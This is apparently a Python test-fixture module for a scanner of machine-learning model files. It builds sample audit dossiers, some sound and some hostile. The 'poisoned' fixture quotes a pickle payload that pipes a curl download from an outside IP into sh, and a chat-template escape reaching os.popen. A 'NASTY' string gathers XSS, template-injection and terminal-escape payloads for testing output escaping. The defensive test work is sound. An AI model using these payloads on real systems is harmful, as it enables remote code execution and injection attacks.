# SPDX-License-Identifier: Apache-2.0
"""Dossiers to render: a sound model, a poisoned one, odd ones, hostile ones, huge ones.

Each is built through the core types, without a file; `checked` goes the whole way from files on disk.
"""

from collections.abc import Iterable
from pathlib import Path
from typing import Any

import msgspec

from steelyard.core.claim import Claim, Fact, Finding, Gap, Measurement, Severity, exactly
from steelyard.core.digest import digest_bytes
from steelyard.core.dossier import Dossier, Identity
from steelyard.core.evidence import Evidence, Source, witness
from steelyard.core.limits import Limits
from steelyard.core.policy import Outcome, Ruling, Verdict, worst
from steelyard.core.ports import Silent
from steelyard.core.subject import Artifact, manifest_digest
from steelyard.flow.check import check
from steelyard.flow.policies import known_policies
from steelyard.flow.policies import policy as find_policy
from steelyard.flow.pools import Serial

AT = "2026-11-21T09:30:00Z"
MIB = 1 << 20
_POLICIES = {known.id: known.digest for known in known_policies()}
# Everything a hostile author may put into a name or a message.
NASTY = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>&amp;'\"]]>-->`` ``` | @everyone #1 "
    "![x](http://127.0.0.1:9/x.png) [link](javascript:alert(1)) {{7*7}} {% raw %} [bold red]rich[/] "
    "\x1b[31mred\x1b]8;;http://127.0.0.1:9\x07\x00\x08\x9b2J\u202egnp.exe\u2066\ufeff\n# heading\r\n\t%s"
)


def artifact(path: str, size: int = 1_000, form: str = "text") -> Artifact:
    """Return a file whose content is its path."""
    return Artifact(path=path, digest=digest_bytes(path.encode()), size=size, format=form)


def dossier(
    name: str,
    artifacts: Iterable[Artifact],
    claims: Iterable[tuple[str, Claim]],
    rulings: Iterable[tuple[str, Outcome, str, tuple[str, ...]]] = (),
    policy: str = "baseline",
) -> Dossier:
    """Return a dossier.

    Args:
        name: Of the subject.
        artifacts: Its files.
        claims: Each with the id of the probe that makes it.
        rulings: Rule, outcome, message, and the names of the claims it rests on.
        policy: Id of the policy.
    """
    files = tuple(sorted(artifacts, key=lambda file: file.path))
    subject = manifest_digest("model", files, ())
    evidence = tuple(
        witness(subject, claim, Source(probe=probe, version="1"), AT) for probe, claim in claims
    )
    made = tuple(
        Ruling(rule=rule, outcome=outcome, because=_ids(evidence, names), message=message)
        for rule, outcome, message, names in rulings
    )
    return Dossier(
        subject=Identity(kind="model", name=name, digest=subject, artifacts=files),
        evidence=evidence,
        verdict=Verdict(
            policy=policy,
            policy_digest=_POLICIES.get(policy, digest_bytes(policy.encode())),
            outcome=worst(ruling.outcome for ruling in made),
            rulings=made,
        ),
    )


def _ids(evidence: tuple[Evidence, ...], names: tuple[str, ...]) -> tuple[str, ...]:
    return tuple(sorted(item.id for item in evidence if name_of(item.claim) in names))


def name_of(claim: Claim) -> str:
    """Return the rule, metric or name of a claim."""
    for field in ("rule", "metric", "name"):
        if hasattr(claim, field):
            return str(getattr(claim, field))
    raise AssertionError(claim)


def completed(*probes: str) -> list[tuple[str, Claim]]:
    """Return the facts that some probes looked to the end."""
    return [(probe, Fact(name="probe.completed", value=probe)) for probe in probes]


def footprint(where: str = "") -> list[tuple[str, Claim]]:
    """Return what is said of the size of a small language model."""
    tensors = {
        "Q4_1": {"count": 210, "parameters": 106_168_320, "bytes": 66_355_200},
        "Q8_0": {"count": 1, "parameters": 28_311_552, "bytes": 30_081_024},
        "F32": {"count": 61, "parameters": 35_136, "bytes": 140_544},
    }
    weights = sum(row["bytes"] for row in tensors.values())
    memory = [_need(context, weights) for context in (512, 2_048, 4_096, 8_192)]
    claims: list[Claim] = [
        exactly("footprint.parameters", 134_515_008, "1", where),
        exactly("footprint.weights", weights, "B", where),
        exactly("footprint.bits-per-weight", 5.743702, "bit", where),
        Fact(name="footprint.architecture", value={"name": "llama", "doubt": ""}, where=where),
        Fact(name="footprint.tensors", value=tensors, where=where),
        Fact(name="footprint.memory", value=memory, where=where),
    ]
    return [("footprint", claim) for claim in claims]


def _need(context: int, weights: int) -> dict[str, int]:
    kv, compute = context * 23_040, 102 * MIB
    return {
        "context": context,
        "weights": weights,
        "kv": kv,
        "compute": compute,
        "steady": weights + kv + 24 * MIB,
        "worst": weights + kv + compute + 122 * MIB,
    }


def licence(where: str = "SmolLM2.gguf") -> list[tuple[str, Claim]]:
    """Return what is said of the licence of an openly licensed model."""
    declared = {"about": "model", "by": "card", "candidates": ["Apache-2.0"], "id": "Apache-2.0"}
    why = {"licence": "Apache-2.0", "may": "if", "section": "4", "why": "keep the notices"}
    text = {
        "id": "Apache-2.0",
        "name": "Apache License 2.0",
        "read": "the whole text was read",
        "as_of": "2026-08-01",
        "duties": ["pass on the licence, when you distribute (section 4)"],
        "thresholds": [],
        "presumed": False,
    }
    base = {"id": "HuggingFaceTB/SmolLM2-135M", "relation": "quantized", "by": "card"}
    claims: list[Claim] = [
        Fact(name="licence.declared", value=declared | {"raw": "apache-2.0"}, where=where),
        Fact(name="lineage.base", value=base, where=where),
        Fact(name="licence.terms", value=text, where=where),
        Fact(name="licence.use", value="yes", where=where),
        Fact(name="licence.commercial", value="yes", where=where),
        Fact(name="licence.redistribute", value="if", where=where),
        Fact(name="licence.because", value={"answers": {"redistribute": why}, "note": "n"}),
    ]
    return [("licence", claim) for claim in claims]


def manifest(files: Iterable[Artifact]) -> list[tuple[str, Claim]]:
    """Return what the manifest says of some files."""
    listed = list(files)
    counts: dict[str, int] = {}
    for file in listed:
        counts[file.format] = counts.get(file.format, 0) + 1
    claims: list[Claim] = [
        exactly("manifest.files", len(listed), "1"),
        exactly("manifest.bytes", sum(file.size for file in listed), "B"),
        Fact(name="manifest.formats", value=counts),
    ]
    return [("manifest", claim) for claim in claims]


def sound() -> Dossier:
    """Return the dossier of a model that passes."""
    files = [artifact("SmolLM2.gguf", 98_408_736, "gguf")]
    claims = [
        *manifest(files),
        *licence(),
        *footprint("SmolLM2.gguf"),
        *completed("manifest", "licence", "footprint", "gguf", "template"),
    ]
    rulings = [
        (
            "no-code-on-load",
            Outcome.PASS,
            "nothing of medium severity or worse",
            ("probe.completed",),
        ),
        ("everything-read", Outcome.PASS, "nothing was left out", ("manifest.files",)),
    ]
    return dossier("SmolLM2-135M-Instruct", files, claims, rulings)


def poisoned() -> Dossier:
    """Return the dossier of a model that fails, with something to review and something unread."""
    files = [
        artifact("README.md", 2_310),
        artifact("config.json", 861, "json"),
        artifact("model.safetensors", 269_060_552, "safetensors"),
        artifact("optimizer.bin", 3_204_113, "zip"),
        artifact("shards/part-00001.dat", 1_048_576, "data"),
        artifact("tokenizer_config.json", 4_120, "json"),
    ]
    claims: list[tuple[str, Claim]] = [
        *manifest(files),
        ("pickle", CALL),
        ("template", ESCAPE),
        ("code", BRINGS_CODE),
        ("pickle", UNLISTED),
        ("licence", DISAGREES),
        *licence("README.md"),
        ("coverage", UNREAD),
        *footprint("model.safetensors"),
        *completed("code", "coverage", "footprint", "licence", "manifest", "pickle", "template"),
    ]
    rulings = [
        (
            "no-code-on-load",
            Outcome.FAIL,
            "2 findings: pickle.call, template.escape",
            ("pickle.call", "template.escape"),
        ),
        ("everything-read", Outcome.UNKNOWN, "1 not assessed", ("coverage.unread",)),
        ("use-is-permitted", Outcome.PASS, "licence.use is yes", ("licence.use",)),
    ]
    return dossier("poisoned-neighbour", files, claims, rulings)


CALL = Finding(
    rule="pickle.call",
    severity=Severity.CRITICAL,
    where="optimizer.bin!archive/data.pkl byte:412",
    message="loading calls posix.system('curl -s http://203.0.113.7/x | sh')",
    remedy="Do not load this file; ask the author for safetensors weights",
    trail=(
        "404: STACK_GLOBAL 'posix' 'system'",
        "409: SHORT_BINUNICODE 'curl -s http://203.0.113.7/x | sh'",
        "411: TUPLE1",
        "412: REDUCE  posix.system('curl -s http://203.0.113.7/x | sh')",
    ),
)
ESCAPE = Finding(
    rule="template.escape",
    severity=Severity.CRITICAL,
    where="tokenizer_config.json /chat_template",
    message="the template reaches os.popen through the attribute __globals__ of a macro",
    remedy="Do not render this template; use the template of the base model",
    trail=("cycler.__init__.__globals__.os.popen('id').read()",),
)
BRINGS_CODE = Finding(
    rule="code.auto-map",
    severity=Severity.MEDIUM,
    where="config.json /auto_map/AutoModelForCausalLM",
    message="the configuration names code of the repository: modeling_poison.PoisonForCausalLM",
    remedy="Read the named file before you load with trust_remote_code",
)
UNLISTED = Finding(
    rule="pickle.unlisted",
    severity=Severity.MEDIUM,
    where="optimizer.bin!archive/data.pkl byte:96",
    message="imports my_company.optim.FancyAdam, which no allowlist knows",
    remedy="Look at what the class does when it is made",
)
DISAGREES = Finding(
    rule="licence.disagreement",
    severity=Severity.LOW,
    where="README.md line:3",
    message="the card says mit, the licence file says apache-2.0",
    remedy="Ask the author which one holds",
)
UNREAD = Gap(name="coverage.unread", reason="of no known format", where="shards/part-00001.dat")


def unknown() -> Dossier:
    """Return the dossier of a model of which too little is known."""
    files = [artifact("weights.bin", 4 * MIB, "data")]
    claims: list[tuple[str, Claim]] = [
        *manifest(files),
        ("coverage", Gap(name="coverage.unread", reason="of no known format", where="weights.bin")),
        ("licence", Gap(name="licence.none", reason="no file declares a licence")),
        *completed("manifest", "coverage"),
    ]
    rulings = [
        (
            "no-code-on-load",
            Outcome.PASS,
            "nothing of medium severity or worse",
            ("manifest.files",),
        ),
        ("everything-read", Outcome.UNKNOWN, "1 not assessed", ("coverage.unread",)),
    ]
    return dossier("mystery", files, claims, rulings)


def warned() -> Dossier:
    """Return the dossier of a model that passes with something to review."""
    files = [artifact("config.json", 861, "json")]
    claims = [*manifest(files), ("code", BRINGS_CODE), *completed("manifest", "code")]
    rulings = [("no-code-on-load", Outcome.WARN, "1 finding: code.auto-map", ("code.auto-map",))]
    return dossier("brings-code", files, claims, rulings)


def settled() -> Dossier:
    """Return the dossier of a model whose one finding somebody accepted."""
    files = [artifact("config.json", 861, "json")]
    before = dossier("settled", files, [*manifest(files), ("code", BRINGS_CODE)])
    found = next(item for item in before.evidence if item.claim == BRINGS_CODE)
    value = {"evidence": found.id, "reason": "read by Ada, calls nothing", "until": "2027-01-31"}
    claims = [
        *manifest(files),
        ("code", BRINGS_CODE),
        *completed("manifest", "code"),
        ("suppression", Fact(name="suppression.accepted", value=value)),
    ]
    ruling = ("no-code-on-load", Outcome.PASS, "nothing of medium severity or worse", ())
    return dossier("settled", files, claims, [ruling])


def empty() -> Dossier:
    """Return a dossier that says nothing at all."""
    return dossier("nothing", [], [], [])


def hostile() -> Dossier:
    """Return a dossier every text of which tries to break out of the page."""
    files = [artifact(NASTY), artifact("a b byte:7"), artifact("c!d.bin")]
    claims: list[tuple[str, Claim]] = [
        (
            "pickle",
            Finding(
                rule=NASTY,
                severity=Severity.CRITICAL,
                where=f"{NASTY}!{NASTY} byte:412",
                message=NASTY,
                remedy=NASTY,
                trail=(NASTY, NASTY),
            ),
        ),
        (NASTY, Gap(name=NASTY, reason=NASTY, where=NASTY)),
        (NASTY, Fact(name=NASTY, value={NASTY: [NASTY, 1, None]}, where=NASTY)),
        (NASTY, Fact(name="licence.declared", value={NASTY: NASTY}, where=NASTY)),
        (NASTY, Fact(name=f"licence.{NASTY}", value="yes", where=NASTY)),
        (NASTY, Fact(name="licence.terms", value={"id": NASTY, "name": NASTY, "duties": [NASTY]})),
        (NASTY, Fact(name="footprint.architecture", value={"doubt": NASTY, NASTY: NASTY})),
        (NASTY, Measurement(metric=NASTY, value=1, unit=NASTY, low=0, high=2, where=NASTY)),
        ("footprint", Fact(name="footprint.tensors", value={NASTY: {"count": 1, "bytes": 9}})),
    ]
    return dossier(NASTY, files, claims, [(NASTY, Outcome.FAIL, NASTY, (NASTY,))], policy=NASTY)


ODD_VALUES: tuple[Any, ...] = (
    None,
    "",
    "text",
    -1,
    1.5,
    True,
    [],
    {},
    [1, "a", None],
    {"F16": 3},
    {"F16": {"count": "many"}},
    [{"context": "long"}],
    [{"weights": 1}],
    {"F16": {"count": -1, "parameters": -5, "bytes": -7}},
    [{"context": 0, "weights": 0}],
    {"yes": {"no": ["if"]}},
    {"answer": ["yes"]},
    {"value": "no", "because": [{"section": "2"}]},
)


def odd() -> Dossier:
    """Return a dossier whose facts have shapes that no probe of this package makes."""
    names = (
        "footprint.tensors",
        "footprint.memory",
        "footprint.architecture",
        "licence.because",
        "licence.declared",
        "licence.terms",
        "licence.use",
        "lineage.base",
        "suppression.accepted",
        "x.y",
        "",
    )
    claims: list[tuple[str, Claim]] = [
        ("other", Fact(name=name, value=value, where=f"file-{number}"))
        for number, value in enumerate(ODD_VALUES)
        for name in names
    ]
    return dossier("odd", [artifact("a")], claims, [("r", Outcome.UNKNOWN, "", ())])


def crowded(number: int = 100_000) -> Dossier:
    """Return a dossier of very many claims, most of them findings and gaps."""
    files = [artifact(f"shard-{index:05}.pkl", 10, "pickle") for index in range(number // 20)]
    claims: list[tuple[str, Claim]] = []
    for index in range(number):
        where = f"shard-{index % len(files):05}.pkl byte:{index}"
        if index % 2:
            claims.append(("coverage", Gap(name="coverage.unread", reason="cut off", where=where)))
        else:
            claims.append(("pickle", _finding(index, where)))
    rules = ("pickle.unlisted-0", "coverage.unread")
    return dossier("crowded", files, claims, [("r", Outcome.FAIL, "very many findings", rules)])


def _finding(index: int, where: str) -> Finding:
    severity = (Severity.CRITICAL, Severity.MEDIUM, Severity.NOTE)[index % 3]
    rule = f"pickle.unlisted-{index % 100}"
    return Finding(rule=rule, severity=severity, where=where, message=f"import number {index}")


def checked(folder: Path) -> Dossier:
    """Return the dossier of files that are written here and then checked."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "README.md").write_text("---\nlicense: mit\n---\n# A model\n", "utf-8")
    (folder / "config.json").write_text('{"model_type": "llama"}', "utf-8")
    (folder / "blob.bin").write_bytes(bytes(range(256)))
    return check(folder, find_policy("baseline"), limits=Limits(), pool=Serial(), progress=Silent())


def node(id: str, basis: str = "unknown", *licences: str, kind: str = "model") -> dict[str, Any]:
    """Return a node of a graph of descent, as the fact holds it."""
    resolved = not id.startswith("/")
    return {
        "basis": basis,
        "id": id,
        "kind": kind,
        "licences": list(licences),
        "resolved": resolved,
    }


def edge(
    child: str, parent: str, by: str, strength: int, how: str = "", relation: str = "derived_from"
) -> dict[str, Any]:
    """Return an edge of a graph of descent, as the fact holds it."""
    return {
        "by": by,
        "child": child,
        "how": how,
        "parent": parent,
        "relation": relation,
        "strength": strength,
        "where": "README.md line:2",
    }


def descended(nodes: list[dict[str, Any]], edges: list[dict[str, Any]]) -> Dossier:
    """Return a dossier that holds a graph of descent, and the licence that is declared."""
    graph = Fact(name="lineage.graph", value={"nodes": nodes, "edges": edges})
    claims = [*licence("README.md"), ("lineage", graph), *completed("lineage")]
    files = [artifact("README.md"), artifact("model.safetensors", 9 * MIB, "safetensors")]
    return dossier("descended", files, claims)


def merged(number: int = 200) -> Dossier:
    """A merge of very many models, with data, outputs, a path, and a name that means harm."""
    models = [f"org-{index % 7}/a-rather-long-model-name-{index}" for index in range(number)]
    kin = [node("", "declared", kind="merge"), *(node(id) for id in models)]
    kin += [node("/data/x"), node(NASTY), node("allenai/c4", kind="dataset"), node("GPT-4")]
    links = [edge("", id, "mergekit", 2, "merge") for id in [*models, "/data/x", NASTY]]
    links += [edge("", "allenai/c4", "card", 3, relation="trained_on")]
    links += [edge("", "GPT-4", "prose", 7, relation="trained_on_outputs_of")]
    return descended(kin, links)


def circling() -> Dossier:
    """A model whose line of descent comes back to where it was, and forks on the way."""
    kin = [node(""), node("a/left", "declared", "MIT"), node("b/right", "presumed", "llama-3.1")]
    links = [
        edge("", "a/left", "card", 3, "finetune"),
        edge("a/left", "b/right", "card", 3),
        edge("b/right", "a/left", "card", 3),
        edge("b/right", "", "config", 5),
        edge("", "b/right", "prose", 7, relation="trained_on_outputs_of"),
    ]
    return descended(kin, links)


def measured() -> Dossier:
    """Return a dossier that says whose weights these are, and what evaluations measured."""
    base = dossier(
        "measured",
        [artifact("model.safetensors", 256 * MIB, "safetensors")],
        [
            *completed("pickle", "weights"),
            ("weights", _relation("quantised", "org/base-1b", "98 % of the tensors, within Q4_K")),
            ("weights", _relation("lora_merged", NASTY, NASTY)),
            ("weights", Fact(name="weights.compared", value={"unrelated": 3}, where="b.gguf")),
        ],
    )
    scores = [
        ("mmlu", "acc", 0.4512, 0.43, 0.47, 14_042),
        ("hellaswag", "acc_norm", 0.61, 0.6, 0.62, 10_042),
        ("arc_easy", "acc", 0.72, 0.7, 0.74, 2_376),
        ("wikitext", "word_perplexity", 18.97, 18.1, 19.9, 62),
        (NASTY, NASTY, 1e300, -1e300, 1.7e308, 1),
    ]
    engine = "llama.cpp 0.3.16 (threads=1, weights=Q4_1)"
    source = Source(probe="eval", version="1", engine=engine)
    evidence = tuple(
        witness(
            base.subject.digest,
            Measurement(metric=f"{task}.{name}", value=value, unit="1", low=low, high=high, n=n),
            source,
            AT,
        )
        for task, name, value, low, high, n in scores
    )
    return msgspec.structs.replace(base, evidence=base.evidence + evidence)


def _relation(relation: str, to: str, why: str) -> Fact:
    value = {"relation": relation, "to": to, "why": why, "sigmas": 40.0}
    return Fact(name="weights.relation", value=value, where="model.safetensors")


ALL = (sound, poisoned, unknown, warned, settled, empty, hostile, odd, merged, circling, measured)
